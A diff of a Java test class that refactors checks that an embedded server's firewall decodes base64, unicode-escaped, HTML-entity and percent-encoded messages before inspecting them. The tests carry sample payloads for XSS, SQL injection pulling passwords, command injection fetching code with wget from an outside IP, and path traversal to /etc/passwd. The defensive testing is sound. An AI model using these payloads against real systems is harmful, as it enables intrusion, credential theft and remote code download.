@@ -3,7 +3,6 @@ package dev.switchboard.embedded.security;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.switchboard.api.CloseCodes;
-import dev.switchboard.config.ConfigKeys;
 import dev.switchboard.embedded.SwitchboardServer;
 import dev.switchboard.embedded.firewall.LoopbackClient;
 import java.nio.charset.StandardCharsets;
@@ -26,24 +25,12 @@ class EncodedAttacksAreDecodedBeforeInspectionTest {
 
     @BeforeAll
     static void start() throws Exception {
-        server = SwitchboardServer.builder().host("127.0.0.1").port(0)
-                .environmentEntry(ConfigKeys.FIREWALL_SQL_INJECTION_ENABLED, "true")
-                .environmentEntry(ConfigKeys.FIREWALL_XSS_ENABLED, "true")
-                .environmentEntry(ConfigKeys.FIREWALL_PATH_TRAVERSAL_ENABLED, "true")
-                .environmentEntry(ConfigKeys.FIREWALL_COMMAND_INJECTION_ENABLED, "true")
-                .beanClasses(FirewallProbe.class)
-                .build();
-        server.start();
+        server = EveryDetector.start();
     }
 
     @AfterAll
     static void stop() throws Exception {
         server.stop();
-    }
-
-    private static String sgcPublish(String message) {
-        return "{\"jsonrpc\":\"2.0\",\"method\":\"sgc@publish\",\"params\":{\"channel\":\"news\",\"message\":\""
-                + message + "\"}}";
     }
 
     private static String jsonEscaped(String text) {
@@ -85,24 +72,26 @@ class EncodedAttacksAreDecodedBeforeInspectionTest {
     void anXssPayloadInSgcBase64IsRefused() throws Exception {
         String b64 = "sgc@b64:" + Base64.getEncoder().encodeToString(
                 "<svg/onload=alert(1)>".getBytes(StandardCharsets.UTF_8));
-        assertThat(refusal("127.0.0.70", sgcPublish(b64))).isEqualTo(CloseCodes.POLICY_VIOLATION + " xss");
+        assertThat(refusal("127.0.0.70", SgcCalls.publish("news", b64)))
+                .isEqualTo(CloseCodes.POLICY_VIOLATION + " xss");
     }
 
     @Test
     void aSqlInjectionInJsonUnicodeEscapesIsRefused() throws Exception {
-        assertThat(refusal("127.0.0.71", sgcPublish(jsonEscaped("1' union select password from users--"))))
+        String sql = jsonEscaped("1' union select password from users--");
+        assertThat(refusal("127.0.0.71", SgcCalls.publish("news", sql)))
                 .isEqualTo(CloseCodes.POLICY_VIOLATION + " sql-injection");
     }
 
     @Test
     void aCommandInjectionInHtmlEntitiesIsRefused() throws Exception {
-        assertThat(refusal("127.0.0.72", sgcPublish(htmlEntities("a; wget http://203.0.113.9/x"))))
+        assertThat(refusal("127.0.0.72", SgcCalls.publish("news", htmlEntities("a; wget http://203.0.113.9/x"))))
                 .isEqualTo(CloseCodes.POLICY_VIOLATION + " command-injection");
     }
 
     @Test
     void aPathTraversalPercentEncodedInAMessageIsRefused() throws Exception {
-        assertThat(refusal("127.0.0.73", sgcPublish(percentEncoded("../../../etc/passwd"))))
+        assertThat(refusal("127.0.0.73", SgcCalls.publish("news", percentEncoded("../../../etc/passwd"))))
                 .isEqualTo(CloseCodes.POLICY_VIOLATION + " path-traversal");
     }
 
